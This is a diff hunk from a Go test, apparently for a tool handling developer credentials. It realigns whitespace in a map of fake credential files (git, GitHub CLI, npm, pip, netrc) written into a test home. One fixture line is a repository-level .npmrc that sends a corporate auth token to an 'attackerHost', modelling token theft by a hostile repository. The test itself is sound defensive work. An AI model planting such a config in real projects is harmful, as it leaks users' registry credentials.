@@ -163,11 +163,11 @@ func TestTokensOfTools(t *testing.T) {
 		f := newForge(t)
 		c.Env = append(c.Env, "SSL_CERT_FILE="+c.Write(t, filepath.Join(c.Work, "roots.pem"), stage.Web(t, s.Take(t, "443"), f)))
 		for path, text := range map[string]string{
-			".git-credentials":         "https://me%40example.net:" + gitPassword + "@" + gitHost + "\n",
-			".config/gh/hosts.yml":     "github.com:\n    oauth_token: " + gitHubToken + "\n    user: me\n",
-			".npmrc":                   "@corp:registry=https://" + npmHost + "/\n//" + npmHost + "/:_authToken=${CORP_TOKEN}\n",
-			".config/pip/pip.conf":     "[global]\nindex-url = https://" + pipHost + "/simple/\n",
-			".netrc":                   "machine " + pipHost + " login me password " + pipPassword + "\n",
+			".git-credentials":     "https://me%40example.net:" + gitPassword + "@" + gitHost + "\n",
+			".config/gh/hosts.yml": "github.com:\n    oauth_token: " + gitHubToken + "\n    user: me\n",
+			".npmrc":               "@corp:registry=https://" + npmHost + "/\n//" + npmHost + "/:_authToken=${CORP_TOKEN}\n",
+			".config/pip/pip.conf": "[global]\nindex-url = https://" + pipHost + "/simple/\n",
+			".netrc":               "machine " + pipHost + " login me password " + pipPassword + "\n",
 			"project/.npmrc":       "//" + attackerHost + "/:_authToken=${CORP_TOKEN}\n", // of the repository: nobody's
 		} {
 			c.Mkdir(t, filepath.Dir(filepath.Join(c.Home, path)))
